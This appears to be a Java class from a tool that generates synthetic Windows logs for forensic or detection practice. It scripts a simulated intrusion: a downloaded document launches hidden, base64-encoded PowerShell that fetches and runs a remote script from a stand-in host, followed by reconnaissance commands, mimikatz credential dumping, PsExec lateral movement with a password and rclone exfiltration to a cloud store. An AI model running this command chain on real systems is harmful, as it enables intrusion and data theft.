package io.ashiato.cli.example.copycat;

import static io.ashiato.cli.example.copycat.Shop.at;
import static java.nio.charset.StandardCharsets.UTF_16LE;

import io.ashiato.cli.example.host.Address;
import io.ashiato.cli.example.host.Machine;
import io.ashiato.cli.example.host.RunningProcess;
import io.ashiato.cli.example.host.Session;
import io.ashiato.cli.example.host.Workdays;
import java.time.Duration;
import java.time.Instant;
import java.util.Base64;
import java.util.List;

/// What the intruder does, with programs that anybody can have: a downloaded script, mimikatz, PsExec, rclone.
final class Intrusion {
    private static final String SYSTEM32 = "C:\\Windows\\System32\\";
    private static final String PUBLIC = "C:\\Users\\Public\\";
    static final String DOCUMENT = "C:\\Users\\y.morita\\Downloads\\" + FalseFlags.DOCUMENT_NAME;
    static final String PROGRAM = PUBLIC + FalseFlags.PROGRAM_NAME;
    private static final String MIMIKATZ = PUBLIC + "mimikatz.exe";
    private static final String PSEXEC = PUBLIC + "PsExec64.exe";
    private static final String RCLONE = PUBLIC + "rclone.exe";

    private static final Address DOWNLOAD_SITE = new Address("198.51.100.139", FalseFlags.DOWNLOAD_HOST);
    private static final Address STAGE_SERVER = new Address("198.51.100.140", "-");
    private static final Address CLOUD = new Address("203.0.113.180", "objects.cloudstore.example");

    private final Machine workstation;
    private final Machine server;
    private final Workdays days;

    Intrusion(Machine workstation, Machine server, Workdays days) {
        this.workstation = workstation;
        this.server = server;
        this.days = days;
    }

    void happen() {
        RunningProcess powershell = openDocument();
        RunningProcess program = startProgram(powershell);
        lookRound(program);
        readPasswords(program);
        goToServer(program);
        sendFiles(program);
        runServer();
    }

    private RunningProcess openDocument() {
        RunningProcess chrome = days.browser(at("02-18 01:58:40"));
        workstation.lookUp(at("02-18 02:04:11"), chrome, DOWNLOAD_SITE);
        workstation.connect(at("02-18 02:04:12"), chrome, DOWNLOAD_SITE, 443);
        workstation.writeFile(at("02-18 02:04:15"), chrome, DOCUMENT);
        RunningProcess word = workstation.start(
                at("02-18 02:06:30"),
                days.explorer(at("02-18 02:06:30")),
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"" + DOCUMENT + "\" /o \"\"");
        workstation.connect(at("02-18 02:06:34"), word, STAGE_SERVER, 80);
        String script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.140/t/a.ps1')";
        String encoded = Base64.getEncoder().encodeToString(script.getBytes(UTF_16LE));
        RunningProcess powershell = workstation.startPowerShell(
                at("02-18 02:06:41"), word, word.session(), "-NoP -W Hidden -EncodedCommand " + encoded);
        workstation.runScript(at("02-18 02:06:43"), powershell, script, "", true);
        workstation.connect(at("02-18 02:06:44"), powershell, STAGE_SERVER, 80);
        return powershell;
    }

    private RunningProcess startProgram(RunningProcess powershell) {
        workstation.writeFile(at("02-18 02:06:58"), powershell, PROGRAM);
        RunningProcess program = workstation.start(
                at("02-18 02:07:03"), powershell, powershell.session().elevated(), PROGRAM, "\"" + PROGRAM + "\"");
        workstation.connect(at("02-18 02:07:05"), program, STAGE_SERVER, 443);
        return program;
    }

    private void lookRound(RunningProcess program) {
        command(at("02-18 02:21:10"), program, "whoami", "whoami /all");
        command(at("02-18 02:21:44"), program, "net", "net group \"Domain Admins\" /domain");
        command(at("02-18 02:22:30"), program, "nltest", "nltest /dclist:hanamori.example");
        command(at("02-18 02:23:02"), program, "net", "net view \\\\FILE-02");
    }

    private void readPasswords(RunningProcess program) {
        days.visit(at("02-18 01:30:05"), Duration.ofMinutes(20), Shop.OGAWA, Shop.MONITOR);
        workstation.writeFile(at("02-18 02:40:11"), program, MIMIKATZ);
        RunningProcess tool = workstation.start(
                at("02-18 02:40:20"),
                program,
                MIMIKATZ,
                MIMIKATZ + " \"privilege::debug\" \"sekurlsa::logonpasswords\" exit");
        workstation.logs.write(workstation.sysmon.processOpened(
                workstation.chance.within(at("02-18 02:40:21")),
                tool,
                tool.id() + 64,
                days.lsass(at("02-18 02:40:21")),
                0x1010,
                "C:\\Windows\\SYSTEM32\\ntdll.dll+9c524|C:\\Windows\\System32\\KERNELBASE.dll+2730e|" + MIMIKATZ
                        + "+bd2e6"));
        workstation.end(at("02-18 02:40:24"), tool);
        workstation.deleteFile(at("02-18 02:44:50"), program, MIMIKATZ, true);
    }

    /// PsExec with the stolen account; its service runs a command on the server.
    private void goToServer(RunningProcess program) {
        workstation.writeFile(at("02-18 03:02:11"), program, PSEXEC);
        workstation.start(
                at("02-18 03:02:40"),
                program,
                PSEXEC,
                PSEXEC + " -accepteula \\\\FILE-02 -u HANAMORI\\adm-ogawa -p Invented-2020 -s cmd /c \"dir D:\\ /s\"");
        Session session = new Session(Shop.OGAWA, 0x5a90e4, 0, "High");
        server.networkLogon(at("02-18 03:02:42"), at("02-18 03:03:30"), session, Shop.WORKSTATION, 53110);
        server.logs.write(server.security.shareOpened(
                server.chance.within(at("02-18 03:02:43")),
                session,
                Shop.WORKSTATION,
                53110,
                "ADMIN$",
                "\\??\\C:\\Windows"));
        Instant installed = server.chance.within(at("02-18 03:02:44"));
        String path = "%SystemRoot%\\PSEXESVC.exe";
        server.logs.write(server.security.serviceInstalled(installed, session, "PSEXESVC", path));
        server.logs.write(server.system.serviceInstalled(installed.plusMillis(2), Shop.OGAWA, "PSEXESVC", path));
        RunningProcess services = server.running(
                at("02-02 17:10:00"), SYSTEM32 + "services.exe", SYSTEM32 + "services.exe", Session.SYSTEM);
        RunningProcess service =
                server.start(at("02-18 03:02:45"), services, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe");
        server.start(at("02-18 03:02:46"), service, SYSTEM32 + "cmd.exe", "\"cmd\" /c \"dir D:\\ /s\"");
    }

    /// Files leave for a cloud store.
    private void sendFiles(RunningProcess program) {
        workstation.writeFile(at("02-18 03:20:10"), program, RCLONE);
        RunningProcess rclone = workstation.start(
                at("02-18 03:20:31"),
                program,
                RCLONE,
                RCLONE + " copy \\\\FILE-02\\Sales store:sales --max-age 2y --transfers 8 --no-check-certificate");
        workstation.lookUp(at("02-18 03:20:32"), rclone, CLOUD);
        workstation.connect(at("02-18 03:20:33"), rclone, Shop.FILE_SERVER, 445);
        workstation.connect(at("02-18 03:20:34"), rclone, CLOUD, 443);
        workstation.end(at("02-18 03:58:02"), rclone);
    }

    /// The server's ordinary hours: monitoring.
    private void runServer() {
        long logonId = 0x41c2a0;
        for (Instant hour = at("02-17 20:00:00"); hour.isBefore(at("02-19 05:00:00")); hour = hour.plusSeconds(1200)) {
            logonId += 0x1f31;
            Instant time = hour.plusSeconds(server.chance.between(10, 90));
            Session session = new Session(Shop.MONITORING, logonId, 0, "High");
            server.networkLogon(time, time.plusSeconds(14), session, Shop.MONITOR, server.chance.port());
            server.logs.write(server.system.serviceState(
                    server.chance.within(time.plusSeconds(300)),
                    server.chance.of(List.of("Windows Update", "Software Protection", "Volume Shadow Copy")),
                    "running"));
        }
    }

    private void command(Instant time, RunningProcess program, String name, String line) {
        RunningProcess cmd = workstation.start(time, program, SYSTEM32 + "cmd.exe", "cmd.exe /c " + line);
        workstation.start(time.plusSeconds(1), cmd, SYSTEM32 + name + ".exe", line);
    }
}
